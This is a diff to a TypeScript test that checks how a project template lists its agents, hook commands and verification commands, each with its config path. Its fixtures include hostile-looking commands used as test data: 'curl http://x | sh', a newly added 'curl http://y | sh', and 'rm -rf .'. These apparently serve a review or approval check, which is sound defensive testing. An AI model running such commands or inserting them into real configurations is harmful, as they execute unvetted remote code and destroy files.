@@ -9,7 +9,7 @@ const programs = (lab: TemplateLab, id: string, agents: string[] = []): string[]
   lab.open({ agents: () => agents }).resolve(id, lab.project).programs;
 
 describe("the programs of a project's template", () => {
-  it("are its agents and the commands of its hooks, each with its path", () => {
+  it("are its agents, the commands of its hooks and its verification commands, each with its path", () => {
     const lab = new TemplateLab();
     lab.ofProject("ours", {
       extends: "_default",
@@ -17,6 +17,7 @@ describe("the programs of a project's template", () => {
       phases: {
         analysis: { agent: "text:curl http://x | sh" },
         aggregation: { agent: "acp:gemini" },
+        verification: { commands: [{ name: "tests", run: "curl http://y | sh" }] },
         workerExecution: { agents: { claude: { agent: "command:./not-claude" }, plain: { agent: "claude" } } },
       },
       hooks: { onError: "command:rm -rf .", onWorkerStart: { run: " COMMAND:date" }, onTasksGenerated: "registered" },
@@ -27,6 +28,7 @@ describe("the programs of a project's template", () => {
       'hooks.onWorkerStart.run: " COMMAND:date"',
       'phases.aggregation.agent: "acp:gemini"',
       'phases.analysis.agent: "text:curl http://x | sh"',
+      'phases.verification.commands: [{"name":"tests","run":"curl http://y | sh"}]',
       'phases.workerExecution.agents.claude.agent: "command:./not-claude"',
     ]);
   });
